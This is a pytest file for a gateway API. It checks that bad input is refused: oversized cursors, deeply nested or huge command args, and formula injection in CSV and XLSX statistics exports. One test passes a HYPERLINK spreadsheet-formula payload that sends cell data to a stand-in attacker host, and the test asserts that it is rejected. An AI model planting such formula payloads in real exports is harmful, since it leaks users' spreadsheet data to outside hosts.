"""Bad API input answers 4xx before anything is stored (issue 13, finding 7): cursor and audit
`before` past SQLite's 64-bit integers answered 500; command args nested 900 deep answered 500
after the command row was committed (shown as sent, never sent) and 8 MiB args were accepted;
the statistics export wrote an unvalidated `site` as a live spreadsheet formula."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from gateway.api.app import create_app
from gateway.api.context import GatewayContext
from gateway.auth.tokens import create_token
from gateway.reports.export import stats_csv, stats_xlsx
from gateway.reports.stats import daily_stats
from gateway.store.db import open_store


@pytest.fixture
def api(tmp_path: Path) -> tuple[TestClient, dict[str, str], Path]:
    db_path = tmp_path / "gw.db"
    db = open_store(db_path)
    token = create_token(db, "admin-1", "admin")
    sent: list[tuple[str, bytes]] = []
    app = create_app(
        GatewayContext(db_path, publish=lambda topic, payload: sent.append((topic, payload)))
    )
    app.state.sent = sent  # what the test reads back
    return TestClient(app), {"Authorization": f"Bearer {token}"}, db_path


def _b64(n: int) -> str:
    return base64.urlsafe_b64encode(str(n).encode()).decode()


@pytest.mark.parametrize("path", ["/api/v1/events", "/api/v1/checks", "/api/v1/deadletters"])
def test_a_cursor_past_64_bits_is_refused(api, path) -> None:  # type: ignore[no-untyped-def]
    client, h, _ = api
    for cursor in (_b64(2**63), _b64(-1), _b64(10**40), "A" * 5000):
        assert client.get(path, params={"cursor": cursor}, headers=h).status_code == 422
    assert client.get(path, params={"cursor": _b64(2**63 - 1)}, headers=h).status_code == 200


def test_an_audit_before_past_64_bits_is_refused(api) -> None:  # type: ignore[no-untyped-def]
    client, h, _ = api
    for path in ("/api/v1/audit", "/api/v1/audit.csv"):
        assert client.get(path, params={"before": 2**63}, headers=h).status_code == 422, path
        assert client.get(path, params={"before": 2**63 - 1}, headers=h).status_code == 200


def _nested(depth: int) -> dict[str, object]:
    value: object = 1
    for _ in range(depth):
        value = [value]
    return {"x": value}


def test_bad_command_args_are_refused_before_the_row_is_stored(api) -> None:  # type: ignore[no-untyped-def]
    client, h, db_path = api
    url = "/api/v1/nodes/s1/desk-1/commands"
    for args in (_nested(900), {"blob": "x" * (64 * 1024)}):
        r = client.post(url, json={"action": "ping", "args": args}, headers=h)
        assert r.status_code == 422, r.text[:200]
    r = client.post(url, json={"action": "ping", "args": {"blob": "x" * (8 * 2**20)}}, headers=h)
    assert r.status_code == 413
    db = open_store(db_path)
    assert db.execute("SELECT count(*) FROM commands").fetchone() == (0,)
    assert client.app.state.sent == []  # type: ignore[attr-defined]
    ok = client.post(url, json={"action": "ping", "args": {"n": [1, {"a": 2}]}}, headers=h)
    assert ok.status_code == 202 and len(client.app.state.sent) == 1  # type: ignore[attr-defined]


def test_the_export_refuses_a_site_that_is_not_a_slug(api) -> None:  # type: ignore[no-untyped-def]
    client, h, _ = api
    site = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for fmt in ("csv", "xlsx"):
        r = client.get(
            "/api/v1/reports/daily",
            params={"site": site, "date": "2026-11-22", "format": fmt},
            headers=h,
        )
        assert r.status_code == 422, fmt


def test_exported_text_never_becomes_a_formula(tmp_path: Path) -> None:
    db = open_store(tmp_path / "gw.db")
    from datetime import date

    stats = daily_stats(db, None, date(2026, 11, 22), "Asia/Shanghai")
    stats["label"] = "=1+1"
    stats["tz"] = "@SUM(A1:A9)"
    rows = list(csv.reader(io.StringIO(stats_csv(stats).decode("utf-8-sig"))))
    values = {r[1]: r[3] for r in rows if r[0] == "report"}
    assert values["label"] == "'=1+1" and values["tz"] == "'@SUM(A1:A9)"
    wb = openpyxl.load_workbook(io.BytesIO(stats_xlsx(stats)))
    cells = [c for row in wb["report"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    assert "'=1+1" in [c.value for c in cells]
